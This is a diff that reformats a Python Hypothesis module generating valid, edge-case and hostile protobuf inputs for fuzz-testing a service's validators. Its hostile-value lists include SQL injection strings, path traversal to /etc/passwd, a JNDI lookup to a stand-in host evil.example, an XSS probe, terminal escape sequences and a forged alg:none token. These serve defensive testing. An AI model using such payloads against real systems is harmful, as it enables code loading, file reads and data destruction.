@@ -20,6 +20,7 @@ validator (`kernel.contract`), so a test can hold each against the other:
   type, invalid UTF-8 in strings, truncated or over-long varints and lengths, deeply nested
   groups, a valid body cut short or followed by garbage.
 """
+
 from __future__ import annotations
 
 import base64
@@ -47,11 +48,18 @@ MIN_SECONDS, MAX_SECONDS = -62_135_596_800, 253_402_300_799
 # The contexts of a stream id, as rules.proto lists them.
 CONTEXTS = ("clue", "case", "decision", "measure", "notice", "reconciliation", "request")
 BIDI = "".join(map(chr, (*range(0x202A, 0x202F), *range(0x2066, 0x206A))))
-NUMBER_RANGE = {FieldDescriptor.TYPE_UINT32: (0, 2**32 - 1), FieldDescriptor.TYPE_UINT64: (0, 2**64 - 1),
-                FieldDescriptor.TYPE_FIXED32: (0, 2**32 - 1), FieldDescriptor.TYPE_FIXED64: (0, 2**64 - 1),
-                FieldDescriptor.TYPE_INT32: (-2**31, 2**31 - 1), FieldDescriptor.TYPE_SINT32: (-2**31, 2**31 - 1),
-                FieldDescriptor.TYPE_SFIXED32: (-2**31, 2**31 - 1), FieldDescriptor.TYPE_INT64: (-2**63, 2**63 - 1),
-                FieldDescriptor.TYPE_SINT64: (-2**63, 2**63 - 1), FieldDescriptor.TYPE_SFIXED64: (-2**63, 2**63 - 1)}
+NUMBER_RANGE = {
+    FieldDescriptor.TYPE_UINT32: (0, 2**32 - 1),
+    FieldDescriptor.TYPE_UINT64: (0, 2**64 - 1),
+    FieldDescriptor.TYPE_FIXED32: (0, 2**32 - 1),
+    FieldDescriptor.TYPE_FIXED64: (0, 2**64 - 1),
+    FieldDescriptor.TYPE_INT32: (-(2**31), 2**31 - 1),
+    FieldDescriptor.TYPE_SINT32: (-(2**31), 2**31 - 1),
+    FieldDescriptor.TYPE_SFIXED32: (-(2**31), 2**31 - 1),
+    FieldDescriptor.TYPE_INT64: (-(2**63), 2**63 - 1),
+    FieldDescriptor.TYPE_SINT64: (-(2**63), 2**63 - 1),
+    FieldDescriptor.TYPE_SFIXED64: (-(2**63), 2**63 - 1),
+}
 
 
 @dataclass(frozen=True)
@@ -62,6 +70,7 @@ class Frame:
     register a thousand clues); `full_lists` also draws lists of exactly `max_items` (copies of a
     few drawn items: cheap for an in-process check). `known` holds ids the services handed out,
     by context (`clue`, `case`, `measure`): valid ids sometimes name one, to get past NOT_FOUND."""
+
     now: Callable[[], datetime]
     limits: Limits
     catalogue: Catalogue = field(repr=False)
@@ -103,19 +112,47 @@ def _seconds(at: datetime) -> int:
 # isolate. Everything else is fair: letters of any script, emoji, combining marks, format
 # characters (ZWJ, BOM, LRM), private use, non-characters.
 LINE_CHARS = st.characters(codec="utf-8", exclude_categories=("Cc", "Cs", "Zl", "Zp"), exclude_characters=BIDI)
-TEXT_CHARS = st.one_of(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs"), exclude_characters=BIDI),
-                       st.sampled_from("\n\r\t"))
+TEXT_CHARS = st.one_of(
+    st.characters(codec="utf-8", exclude_categories=("Cc", "Cs"), exclude_characters=BIDI), st.sampled_from("\n\r\t")
+)
 # Valid, but what an attacker or a careless import sends.
 AWKWARD_LINES = (
-    "'; DROP TABLE events; --", "Robert'); DELETE FROM requests; --", "../../etc/passwd", "..\\..\\windows\\win.ini",
-    '{"event_type": "forged", "version": 1}', "${jndi:ldap://evil.example/x}", "<script>alert(1)</script>",
-    "%s%s%n%x%d", "{{7*7}} #{7*7}", "\\x00 \\n \\u202e (escaped, not raw)", "王小明（副局长）", "مرحبا بالعالم",
-    "שלום עולם", "👩🏽‍⚖️🙂 👨‍👩‍👧‍👦", "\ufeffBOM first", "e\u0301\u0301\u0301 combining", "\u200e\u200f marks",
-    "\ufffe\uffff non-characters", "\U0010fffd\ue000 private use", "null", "None", "undefined", "NaN", "-0",
-    "1e309", "true", "\u00a0\u3000 ideographic space", "Ａ full width", "İıſ case folding", "ﬁ ligature",
+    "'; DROP TABLE events; --",
+    "Robert'); DELETE FROM requests; --",
+    "../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    '{"event_type": "forged", "version": 1}',
+    "${jndi:ldap://evil.example/x}",
+    "<script>alert(1)</script>",
+    "%s%s%n%x%d",
+    "{{7*7}} #{7*7}",
+    "\\x00 \\n \\u202e (escaped, not raw)",
+    "王小明（副局长）",
+    "مرحبا بالعالم",
+    "שלום עולם",
+    "👩🏽‍⚖️🙂 👨‍👩‍👧‍👦",
+    "\ufeffBOM first",
+    "e\u0301\u0301\u0301 combining",
+    "\u200e\u200f marks",
+    "\ufffe\uffff non-characters",
+    "\U0010fffd\ue000 private use",
+    "null",
+    "None",
+    "undefined",
+    "NaN",
+    "-0",
+    "1e309",
+    "true",
+    "\u00a0\u3000 ideographic space",
+    "Ａ full width",
+    "İıſ case folding",
+    "ﬁ ligature",
 )
 AWKWARD_TEXTS = AWKWARD_LINES + (
-    'line 1\n{"forged": true}\r\n\tindented', "a\r\nb\rc\nd", "\n\n\n", "tab\tseparated\tvalues",
+    'line 1\n{"forged": true}\r\n\tindented',
+    "a\r\nb\rc\nd",
+    "\n\n\n",
+    "tab\tseparated\tvalues",
     "para\u2028graph\u2029separators",
 )
 
@@ -129,8 +166,9 @@ def _fit(value: str, limit: int, required: bool) -> str:
 
 def _textual(limit: int, required: bool, chars, awkward) -> st.SearchStrategy[str]:
     short = st.text(chars, min_size=1 if required else 0, max_size=min(limit, 40))
-    at_limit = st.builds(lambda piece, n: (piece * n)[:n], st.text(chars, min_size=1, max_size=4),
-                         st.integers(max(1, limit - 2), limit))
+    at_limit = st.builds(
+        lambda piece, n: (piece * n)[:n], st.text(chars, min_size=1, max_size=4), st.integers(max(1, limit - 2), limit)
+    )
     return st.one_of(short, short, st.sampled_from(awkward), at_limit).map(lambda v: _fit(v, limit, required))
 
 
@@ -140,8 +178,15 @@ UUIDS = st.uuids().map(str)
 def _codes(fd: FieldDescriptor, catalogue: Catalogue) -> list[str]:
     """The catalogue's codes of the kind the field names (offices, agencies, roles), sorted."""
     name = fd.name
-    pool = (catalogue.offices if "office" in name else catalogue.agencies if "agency" in name
-            else catalogue.roles if "role" in name else {**catalogue.offices, **catalogue.agencies, **catalogue.roles})
+    pool = (
+        catalogue.offices
+        if "office" in name
+        else catalogue.agencies
+        if "agency" in name
+        else catalogue.roles
+        if "role" in name
+        else {**catalogue.offices, **catalogue.agencies, **catalogue.roles}
+    )
     return sorted(pool)
 
 
@@ -168,24 +213,35 @@ def _reference() -> st.SearchStrategy[str]:
 def _known_or(fresh: st.SearchStrategy[str], frame: Frame, *contexts: str) -> st.SearchStrategy[str]:
     """`fresh`, or (half the time, once the services handed some out) a known id of `contexts`.
     The draw is the same either way: what it names depends on what is known when it runs."""
+
     def pick(args):
         use_known, k, value = args
         pool = [i for c in contexts for i in frame.known.get(c, ())]
         return pool[k % len(pool)] if use_known and pool else value
+
     return st.tuples(st.booleans(), st.integers(0, 2**16), fresh).map(pick)
 
 
 def _id(fd: FieldDescriptor, rule, frame: Frame) -> st.SearchStrategy[str]:
     fmt = rule.id
     if fmt == F.ID_FORMAT_STREAM:
-        s = _known_or(st.builds(lambda c, t, u: f"{c}-{'timers-' if t else ''}{u}", st.sampled_from(CONTEXTS),
-                                st.booleans(), UUIDS), frame, "clue", "case", "measure")
+        s = _known_or(
+            st.builds(
+                lambda c, t, u: f"{c}-{'timers-' if t else ''}{u}", st.sampled_from(CONTEXTS), st.booleans(), UUIDS
+            ),
+            frame,
+            "clue",
+            "case",
+            "measure",
+        )
     elif fmt in (F.ID_FORMAT_CLUE, F.ID_FORMAT_CASE, F.ID_FORMAT_MEASURE):
         prefix = {F.ID_FORMAT_CLUE: "clue", F.ID_FORMAT_CASE: "case", F.ID_FORMAT_MEASURE: "measure"}[fmt]
         s = _known_or(UUIDS.map(lambda u: f"{prefix}-{u}"), frame, prefix)
     elif fmt == F.ID_FORMAT_PERSON:
-        s = st.one_of(st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._:\-]{0,63}", fullmatch=True),
-                      st.sampled_from(("P-1042", "110101199003071234", "u.x:y_z-0", "9" * 64)))
+        s = st.one_of(
+            st.from_regex(r"[A-Za-z0-9][A-Za-z0-9._:\-]{0,63}", fullmatch=True),
+            st.sampled_from(("P-1042", "110101199003071234", "u.x:y_z-0", "9" * 64)),
+        )
     elif fmt == F.ID_FORMAT_CODE:
         s = _code_field(fd, frame.catalogue)
     elif fmt == F.ID_FORMAT_SHA256:
@@ -198,17 +254,26 @@ def _id(fd: FieldDescriptor, rule, frame: Frame) -> st.SearchStrategy[str]:
     elif fmt == F.ID_FORMAT_REFERENCE:
         s = _reference()
     elif fmt == F.ID_FORMAT_PAGE_TOKEN:
-        s = st.one_of(st.from_regex(r"[A-Za-z0-9_=\-]{1,512}", fullmatch=True),
-                      st.binary(min_size=1, max_size=300).map(lambda b: base64.urlsafe_b64encode(b).decode()))
+        s = st.one_of(
+            st.from_regex(r"[A-Za-z0-9_=\-]{1,512}", fullmatch=True),
+            st.binary(min_size=1, max_size=300).map(lambda b: base64.urlsafe_b64encode(b).decode()),
+        )
     elif fmt == F.ID_FORMAT_CLUE_REF:
         # The platform's numbers (`<office>-<year>-<sequence>`, offices of the catalogue) or an
         # office's own: 1-40 letters of any script, digits and - _ . / ( ) [ ] 〔 〕.
-        platform = st.builds(lambda o, y, q: f"{o}-{y:04d}-{q:04d}", st.sampled_from(sorted(frame.catalogue.offices)),
-                             st.integers(2000, 2040), st.integers(1, 99_999))
-        own_char = st.one_of(st.characters(categories=("Lu", "Ll", "Lt", "Lm", "Lo", "Nd")),
-                             st.sampled_from("-_./()[]〔〕"))
-        own = st.one_of(st.text(own_char, min_size=1, max_size=40),
-                        st.sampled_from(("RG1-2026-099", "京纪〔2026〕12", "[2026]/7", "a" * 40)))
+        platform = st.builds(
+            lambda o, y, q: f"{o}-{y:04d}-{q:04d}",
+            st.sampled_from(sorted(frame.catalogue.offices)),
+            st.integers(2000, 2040),
+            st.integers(1, 99_999),
+        )
+        own_char = st.one_of(
+            st.characters(categories=("Lu", "Ll", "Lt", "Lm", "Lo", "Nd")), st.sampled_from("-_./()[]〔〕")
+        )
+        own = st.one_of(
+            st.text(own_char, min_size=1, max_size=40),
+            st.sampled_from(("RG1-2026-099", "京纪〔2026〕12", "[2026]/7", "a" * 40)),
+        )
         s = st.one_of(_known_or(UUIDS.map(lambda u: f"clue-{u}"), frame, "clue"), platform, own)
     else:
         raise LookupError(f"{fd.full_name}: no strategy for id format {fmt}")
@@ -236,8 +301,12 @@ def _time(draw, window: int, frame: Frame) -> timestamp_pb2.Timestamp:
     now = _seconds(frame.now())
     where = draw(st.sampled_from(("earliest", "latest", "anywhere", "recent")))
     offset = draw(st.integers(0, SCALE))
-    seconds = {"earliest": lo, "latest": hi, "anywhere": lo + (hi - lo) * offset // SCALE,
-               "recent": max(lo, now - 90 * 86400 * offset // SCALE)}[where]
+    seconds = {
+        "earliest": lo,
+        "latest": hi,
+        "anywhere": lo + (hi - lo) * offset // SCALE,
+        "recent": max(lo, now - 90 * 86400 * offset // SCALE),
+    }[where]
     nanos = draw(st.one_of(st.just(0), st.just(999_999_999), st.integers(0, 999_999_999)))
     return ts(seconds, nanos)
 
@@ -353,7 +422,7 @@ def _edge_id(fd: FieldDescriptor, rule, frame: Frame, side: str) -> str:
         return {F.ID_FORMAT_CLUE: "clue", F.ID_FORMAT_CASE: "case", F.ID_FORMAT_MEASURE: "measure"}[fmt] + f"-{u}"
     if fmt == F.ID_FORMAT_PERSON:
         return "0" if low else "z" + "-" * 63
-    if fmt == F.ID_FORMAT_CODE:     # the catalogue's first and last (any other is refused by the domain)
+    if fmt == F.ID_FORMAT_CODE:  # the catalogue's first and last (any other is refused by the domain)
         return _codes(fd, frame.catalogue)[0 if low else -1]
     if fmt == F.ID_FORMAT_SHA256:
         return ("0" if low else "f") * 64
@@ -408,8 +477,11 @@ def edge_message(descriptor: Descriptor, frame: Frame, side: str) -> Message:
     for fd in descriptor.fields:
         rule = rule_of(fd)
         if fd.is_repeated:
-            n = (1 if rule.required else 0) if low else (rule.max_items if frame.full_lists
-                                                          else min(rule.max_items, frame.repeat_cap))
+            n = (
+                (1 if rule.required else 0)
+                if low
+                else (rule.max_items if frame.full_lists else min(rule.max_items, frame.repeat_cap))
+            )
             _set(msg, fd, [edge_value(fd, _item_rule(rule), frame, side)] * n)
         elif fd.message_type is not None and low and not rule.required:
             continue
@@ -418,17 +490,32 @@ def edge_message(descriptor: Descriptor, frame: Frame, side: str) -> Message:
     span = span_of(descriptor)
     if span is not None and msg.HasField(getattr(span, "from")) and msg.HasField(span.to):
         first, last = getattr(msg, getattr(span, "from")), getattr(msg, span.to)
-        if low:     # the shortest period from the earliest date: one microsecond
+        if low:  # the shortest period from the earliest date: one microsecond
             last.CopyFrom(ts(first.seconds, first.nanos + 1000))
-        else:       # the longest period up to the end of the window
+        else:  # the longest period up to the end of the window
             first.CopyFrom(ts(last.seconds - int(frame.limits.max_span.total_seconds()), last.nanos))
     return msg
 
 
 # -- hostile values ----------------------------------------------------------------------------
 
-CONTROLS = ("\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x1b[31mred\x1b[0m", "\x1b]0;owned\x07",
-            "\x1b[2J\x1b[H", "\x7f", "\x80", "\x85", "\x9b", "\x9f")
+CONTROLS = (
+    "\x00",
+    "\x01",
+    "\x07",
+    "\x08",
+    "\x0b",
+    "\x0c",
+    "\x1b",
+    "\x1b[31mred\x1b[0m",
+    "\x1b]0;owned\x07",
+    "\x1b[2J\x1b[H",
+    "\x7f",
+    "\x80",
+    "\x85",
+    "\x9b",
+    "\x9f",
+)
 OVERRIDES = tuple(BIDI) + ("\u202eexe.txt", "\u2066isolated\u2069")
 LINE_BREAKS = ("\n", "\r", "\t", "\r\n", '\n{"event_type": "forged", "level": "info"}\n', "x\n\ny")
 BLANKS = ("", " ", "    ")
@@ -440,7 +527,7 @@ def _bad_text(draw, limit: int, required: bool, line: bool) -> str:
     way = draw(st.sampled_from(("long", "inject", "inject", "blank") if required else ("long", "inject", "inject")))
     if way == "long":
         n = draw(st.sampled_from((limit + 1, limit + 2, 2 * limit + 1, 10 * limit, 100_000)))
-        return (draw(st.sampled_from(PIECES)) * max(n, limit + 1))[:max(n, limit + 1)]
+        return (draw(st.sampled_from(PIECES)) * max(n, limit + 1))[: max(n, limit + 1)]
     if way == "blank":
         return draw(st.sampled_from(BLANKS))
     bad = draw(st.sampled_from(CONTROLS + OVERRIDES + (LINE_BREAKS if line else ())))
@@ -452,38 +539,120 @@ def _bad_text(draw, limit: int, required: bool, line: bool) -> str:
 
 def _bad_ids(fmt: int, u: str, required: bool) -> list[str]:
     """Values that are not of format `fmt` (u: a lowercase uuid)."""
-    common = ["../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "%00", "a\x00b", "*", "' OR '1'='1", "x" * 10_000,
-              "\u202eabc", "abc\n", " abc", "abc\x1b[31m"]
+    common = [
+        "../../etc/passwd",
+        "..%2F..%2Fetc%2Fpasswd",
+        "%00",
+        "a\x00b",
+        "*",
+        "' OR '1'='1",
+        "x" * 10_000,
+        "\u202eabc",
+        "abc\n",
+        " abc",
+        "abc\x1b[31m",
+    ]
     blank = [""] if required else []
     if fmt == F.ID_FORMAT_STREAM:
-        own = [f"CLUE-{u}", f"clue-{u.upper()}", f"clue-{u}\n", f" clue-{u}", f"unknown-{u}", f"clue-{u}-x",
-               f"clue-timers-timers-{u}", f"clue-{u.replace('-', '')}", f"сlue-{u}", f"clue-../../{u}", "clue-"]
+        own = [
+            f"CLUE-{u}",
+            f"clue-{u.upper()}",
+            f"clue-{u}\n",
+            f" clue-{u}",
+            f"unknown-{u}",
+            f"clue-{u}-x",
+            f"clue-timers-timers-{u}",
+            f"clue-{u.replace('-', '')}",
+            f"сlue-{u}",
+            f"clue-../../{u}",
+            "clue-",
+        ]
     elif fmt in (F.ID_FORMAT_CLUE, F.ID_FORMAT_CASE, F.ID_FORMAT_MEASURE):
         p = {F.ID_FORMAT_CLUE: "clue", F.ID_FORMAT_CASE: "case", F.ID_FORMAT_MEASURE: "measure"}[fmt]
         other = "case" if p != "case" else "clue"
-        own = [f"{p.upper()}-{u}", f"{p}-{u.upper()}", f"{p}-{u}\n", f" {p}-{u}", f"{other}-{u}", f"{p}-timers-{u}",
-               f"{p}-{u.replace('-', '')}", f"{p}-{{{u}}}", f"{p}-../../etc/passwd", f"{p}-' OR 1=1 --", u, f"{p}-"]
+        own = [
+            f"{p.upper()}-{u}",
+            f"{p}-{u.upper()}",
+            f"{p}-{u}\n",
+            f" {p}-{u}",
+            f"{other}-{u}",
+            f"{p}-timers-{u}",
+            f"{p}-{u.replace('-', '')}",
+            f"{p}-{{{u}}}",
+            f"{p}-../../etc/passwd",
+            f"{p}-' OR 1=1 --",
+            u,
+            f"{p}-",
+        ]
     elif fmt == F.ID_FORMAT_PERSON:
         own = ["-P1", ".hidden", "_P1", "P 1", "P/1", "P1\n", "P" * 65, "P1'; DROP TABLE x; --", "P1\x00", "P#1"]
     elif fmt == F.ID_FORMAT_CODE:
-        own = ["Case_management", "1office", "_office", "case-management", "case management", "a" * 65,
-               "case_management\n", "ｃase", "office;"]
+        own = [
+            "Case_management",
+            "1office",
+            "_office",
+            "case-management",
+            "case management",
+            "a" * 65,
+            "case_management\n",
+            "ｃase",
+            "office;",
+        ]
     elif fmt == F.ID_FORMAT_SHA256:
         own = ["9f" * 31, "9F" * 32, "g" * 64, "9f" * 32 + "0", "0x" + "9f" * 31, " " + "9f" * 31 + "9", "9f" * 64]
     elif fmt == F.ID_FORMAT_UUID:
         own = [u.upper(), u.replace("-", ""), "{" + u + "}", "urn:uuid:" + u, u + "\n", u[:-1], u + "0"]
     elif fmt == F.ID_FORMAT_MONTH:
-        own = ["2026-13", "2026-00", "2026-1", "26-01", "2026/01", "2026-01-01", "２０２６-０１", "-001-01",
-               "2026-01\n", "202601", "99999-01", "0000-01", "1999-12", "9999-12"]
+        own = [
+            "2026-13",
+            "2026-00",
+            "2026-1",
+            "26-01",
+            "2026/01",
+            "2026-01-01",
+            "２０２６-０１",
+            "-001-01",
+            "2026-01\n",
+            "202601",
+            "99999-01",
+            "0000-01",
+            "1999-12",
+            "9999-12",
+        ]
     elif fmt == F.ID_FORMAT_REFERENCE:
-        own = [" lead", "trail ", "a" * 129, "a<b>", "a;b", "a\nb", "a\tb", "a|b", "a*b", "'; DROP TABLE x; --",
-               "a\u202eb", "a\x00b", "  "]
+        own = [
+            " lead",
+            "trail ",
+            "a" * 129,
+            "a<b>",
+            "a;b",
+            "a\nb",
+            "a\tb",
+            "a|b",
+            "a*b",
+            "'; DROP TABLE x; --",
+            "a\u202eb",
+            "a\x00b",
+            "  ",
+        ]
         common = [c for c in common if c != "../../etc/passwd"]
     elif fmt == F.ID_FORMAT_PAGE_TOKEN:
         own = ["a" * 513, "abc.def", "abc/def", "abc+def", "a b", "abc\n", "%00", "tok en", "abc;def"]
     elif fmt == F.ID_FORMAT_CLUE_REF:
-        own = ["a" * 41, "case_management-2026-0042 ", "case management", "case_management-2026-0042\n", "a;b",
-               "a#b", "a:b", "a<b>", "a,b", "京纪【2026】12", f"clue-{u}\n", "a\u202eb"]
+        own = [
+            "a" * 41,
+            "case_management-2026-0042 ",
+            "case management",
+            "case_management-2026-0042\n",
+            "a;b",
+            "a#b",
+            "a:b",
+            "a<b>",
+            "a,b",
+            "京纪【2026】12",
+            f"clue-{u}\n",
+            "a\u202eb",
+        ]
         common = [c for c in common if c != "../../etc/passwd"]
     else:
         raise LookupError(f"no hostile values for id format {fmt}")
@@ -498,8 +667,18 @@ def _bad_id(draw, fmt: int, required: bool) -> str:
 @st.composite
 def _bad_word(draw, rule) -> str:
     word = draw(st.sampled_from(list(rule.word.of)))
-    bad = [word.lower(), word + " ", " " + word, word + "\n", word + "\x00", "\u202e" + word, "' OR 1=1 --",
-           "x" * 10_000, word[:-1], word.title()] + ([""] if rule.required else [])
+    bad = [
+        word.lower(),
+        word + " ",
+        " " + word,
+        word + "\n",
+        word + "\x00",
+        "\u202e" + word,
+        "' OR 1=1 --",
+        "x" * 10_000,
+        word[:-1],
+        word.title(),
+    ] + ([""] if rule.required else [])
     return draw(st.sampled_from([b for b in bad if b not in rule.word.of]))
 
 
@@ -511,13 +690,22 @@ def _bad_time(draw, window: int, frame: Frame, required: bool):
     ahead = int((frame.limits.clock_skew if window == PAST else frame.limits.horizon).total_seconds())
     fine = max(lo, now - draw(st.integers(0, 86400 * 30)))
     choices = [
-        ts(fine, -1), ts(fine, 1_000_000_000), ts(fine, 2**31 - 1), ts(fine, -2**31),     # nanos out of range
-        ts(MIN_SECONDS - 1), ts(MAX_SECONDS + 1), ts(2**63 - 1, 999_999_999), ts(-2**63),  # seconds out of range
-        ts(lo - 1, 999_999_999), ts(lo - 86400),                                           # before the earliest date
-        ts(MAX_SECONDS, 999_999_999), ts(now + ahead + 3600), ts(now + ahead + 86400 * 365),  # 9999-12-31, far future
+        ts(fine, -1),
+        ts(fine, 1_000_000_000),
+        ts(fine, 2**31 - 1),
+        ts(fine, -(2**31)),  # nanos out of range
+        ts(MIN_SECONDS - 1),
+        ts(MAX_SECONDS + 1),
+        ts(2**63 - 1, 999_999_999),
+        ts(-(2**63)),  # seconds out of range
+        ts(lo - 1, 999_999_999),
+        ts(lo - 86400),  # before the earliest date
+        ts(MAX_SECONDS, 999_999_999),
+        ts(now + ahead + 3600),
+        ts(now + ahead + 86400 * 365),  # 9999-12-31, far future
     ]
-    choices += [ts(at) for at in (MIN_SECONDS, 0) if at < lo]                              # 0001-01-01, 1970
-    choices += [ts(at) for at in (32_503_680_000,) if at > hi]                              # 3000-01-01
+    choices += [ts(at) for at in (MIN_SECONDS, 0) if at < lo]  # 0001-01-01, 1970
+    choices += [ts(at) for at in (32_503_680_000,) if at > hi]  # 3000-01-01
     if window == PAST:
         choices += [ts(now + 86400), ts(now + ahead + 600)]
     if required:
@@ -539,7 +727,7 @@ def _bad_number(fd: FieldDescriptor, lo: int, hi: int) -> st.SearchStrategy[int]
 
 def _bad_choice(fd: FieldDescriptor, rule) -> st.SearchStrategy[int]:
     known = {v.number for v in fd.enum_type.values}
-    unknown = [n for n in (999, -1, 2**31 - 1, -2**31, max(known) + 1, 1_000_000) if n not in known]
+    unknown = [n for n in (999, -1, 2**31 - 1, -(2**31), max(known) + 1, 1_000_000) if n not in known]
     return st.sampled_from(unknown + ([0] if rule.required else []))
 
 
@@ -562,7 +750,8 @@ def message_breakable(descriptor: Descriptor, seen: tuple = ()) -> bool:
     if descriptor.full_name in seen:
         return False
     return span_of(descriptor) is not None or any(
-        breakable(fd, rule_of(fd), (*seen, descriptor.full_name)) for fd in descriptor.fields)
+        breakable(fd, rule_of(fd), (*seen, descriptor.full_name)) for fd in descriptor.fields
+    )
 
 
 @st.composite
@@ -581,11 +770,11 @@ def _break_message(draw, msg: Message, frame: Frame, prefix: str) -> str:
             b = draw(_within(a + 1, hi))
             getattr(msg, first).CopyFrom(ts(b))
             getattr(msg, last).CopyFrom(ts(a))
-        elif way == "empty":         # `to` not after `from`: the same instant, to the microsecond
+        elif way == "empty":  # `to` not after `from`: the same instant, to the microsecond
             a, nanos = draw(_within(lo, hi)), draw(st.integers(0, 999_999)) * 1000
             getattr(msg, first).CopyFrom(ts(a, nanos))
             getattr(msg, last).CopyFrom(ts(a, nanos + draw(st.sampled_from((0, 1, 999)))))
-        else:                        # longer than the longest span
+        else:  # longer than the longest span
             longest = int(frame.limits.max_span.total_seconds())
             a = draw(_within(lo, hi - longest - 1))
             getattr(msg, first).CopyFrom(ts(a))
@@ -649,7 +838,7 @@ def _copy(msg: Message) -> Message:
 
 def _bad_scalar(fd: FieldDescriptor, rule, frame: Frame) -> st.SearchStrategy:
     kind = rule.WhichOneof("kind")
-    required = rule.required and not fd.is_repeated   # an item: only values wrong in themselves
+    required = rule.required and not fd.is_repeated  # an item: only values wrong in themselves
     if kind in ("line", "text"):
         return _bad_text(getattr(rule, kind), required, kind == "line")
     if kind == "id":
@@ -680,9 +869,17 @@ def hostile_message(draw, descriptor: Descriptor, frame: Frame) -> tuple[Message
 # -- raw bodies --------------------------------------------------------------------------------
 
 VARINT, I64, LEN, SGROUP, EGROUP, I32 = 0, 1, 2, 3, 4, 5
-WIRE_OF = {FieldDescriptor.TYPE_DOUBLE: I64, FieldDescriptor.TYPE_FLOAT: I32, FieldDescriptor.TYPE_FIXED64: I64,
-           FieldDescriptor.TYPE_SFIXED64: I64, FieldDescriptor.TYPE_FIXED32: I32, FieldDescriptor.TYPE_SFIXED32: I32,
-           FieldDescriptor.TYPE_STRING: LEN, FieldDescriptor.TYPE_BYTES: LEN, FieldDescriptor.TYPE_MESSAGE: LEN}
+WIRE_OF = {
+    FieldDescriptor.TYPE_DOUBLE: I64,
+    FieldDescriptor.TYPE_FLOAT: I32,
+    FieldDescriptor.TYPE_FIXED64: I64,
+    FieldDescriptor.TYPE_SFIXED64: I64,
+    FieldDescriptor.TYPE_FIXED32: I32,
+    FieldDescriptor.TYPE_SFIXED32: I32,
+    FieldDescriptor.TYPE_STRING: LEN,
+    FieldDescriptor.TYPE_BYTES: LEN,
+    FieldDescriptor.TYPE_MESSAGE: LEN,
+}
 
 
 def varint(n: int) -> bytes:
@@ -731,8 +928,11 @@ def _wrong_typed(draw, descriptor: Descriptor) -> bytes:
 def _bad_utf8(draw, descriptor: Descriptor) -> bytes:
     strings = [fd for fd in descriptor.fields if fd.type == FieldDescriptor.TYPE_STRING]
     number = draw(st.sampled_from(strings)).number if strings else draw(st.integers(1, 20))
-    bad = draw(st.sampled_from((b"\xff\xfe", b"\xc3\x28", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xc0\xaf",
-                                b"ok\x80", b"\xe2\x82")))
+    bad = draw(
+        st.sampled_from(
+            (b"\xff\xfe", b"\xc3\x28", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xc0\xaf", b"ok\x80", b"\xe2\x82")
+        )
+    )
     value = draw(st.binary(max_size=8)) + bad
     return tag(number, LEN) + varint(len(value)) + value
 
@@ -769,13 +969,20 @@ def raw_body(draw, descriptor: Descriptor, frame: Frame) -> bytes:
         return draw(_framing(descriptor))
     body = draw(valid_message(descriptor, frame)).SerializeToString()
     if way == "truncated" and len(body) > 1:
-        return body[:draw(st.integers(1, len(body) - 1))]
+        return body[: draw(st.integers(1, len(body) - 1))]
     return body + draw(st.binary(min_size=1, max_size=64))
 
 
-GARBAGE_AUTHORIZATION = ("Bearer", "Bearer ", "Bearer x.y.z", "Basic dXNlcjpwYXNzd29yZA==", "Bearer " + "A" * 6000,
-                         "bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.", "Bearer ../../etc/passwd",
-                         "Token " + string.ascii_letters)
+GARBAGE_AUTHORIZATION = (
+    "Bearer",
+    "Bearer ",
+    "Bearer x.y.z",
+    "Basic dXNlcjpwYXNzd29yZA==",
+    "Bearer " + "A" * 6000,
+    "bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ4In0.",
+    "Bearer ../../etc/passwd",
+    "Token " + string.ascii_letters,
+)
 
 
 def forged(token: str) -> str:
